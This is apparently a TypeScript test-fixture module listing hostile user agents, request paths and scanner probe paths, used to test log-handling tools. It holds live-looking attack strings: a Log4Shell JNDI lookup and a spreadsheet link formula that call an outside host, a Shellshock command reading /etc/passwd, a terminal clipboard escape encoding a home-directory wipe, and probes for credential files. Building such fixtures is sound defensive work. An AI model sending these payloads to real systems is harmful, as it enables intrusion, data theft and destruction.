/** What scanners send to break the tools of whoever reads the log: a few of each kind, written as escapes. */
export const HOSTILE_AGENTS: readonly string[] = [
  '\u001b]0;owned\u0007\u001b[2J\u001b[31mroot#\u001b[0m',
  'Mozilla/5.0 \u202egnp.exe\u202c (compatible)',
  '$' + '{jndi:ldap://203.0.113.66/a}',
  '() { :;}; /bin/cat /etc/passwd',
  `sqlmap/1.9.4 ${'A'.repeat(4000)}`,
  '\u001b]52;c;cm0gLXJmIH4=\u0007curl/8',
  '=HYPERLINK("http://203.0.113.66/?x="&A1,"open")',
  'zero\u200bwidth\u2066isolate\u2069 \ufeffmark',
];

/** Paths that carry raw controls, quotes and foreign scripts. */
export const HOSTILE_PATHS: readonly string[] = [
  '/%1b]0;x%07/\u001b[1;1H\u001b[K',
  '/a"onmouseover="alert(1)\\..\\..\\windows',
  '/\u05d0\u05d1\u202e/nimda/',
  `/${'../'.repeat(300)}etc/passwd`,
  '/\u0000\u0085\u009b31m',
  '/index.php?x=\ud83d\udca9&y=\u0301\u0301\u0301',
];

/** What a scanner tries, in the order it tries it. */
export const SCANNED_PATHS: readonly string[] = `
  /.env /.git/config /.git/HEAD /wp-login.php /wp-admin/setup-config.php /xmlrpc.php /phpmyadmin/index.php
  /.aws/credentials /.DS_Store /server-status /actuator/env /actuator/heapdump /config.json /backup.zip
  /db.sql.gz /.ssh/id_rsa /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /cgi-bin/luci
  /solr/admin/info/system /boaform/admin/formLogin /owa/auth/logon.aspx /.vscode/sftp.json /api/v1/pods
  /debug/pprof/ /telescope/requests
`
  .trim()
  .split(/\s+/);

export const SCANNER_AGENTS: readonly string[] = [
  'Mozilla/5.0 zgrab/0.x',
  'sqlmap/1.9.4#stable (https://sqlmap.org)',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
];
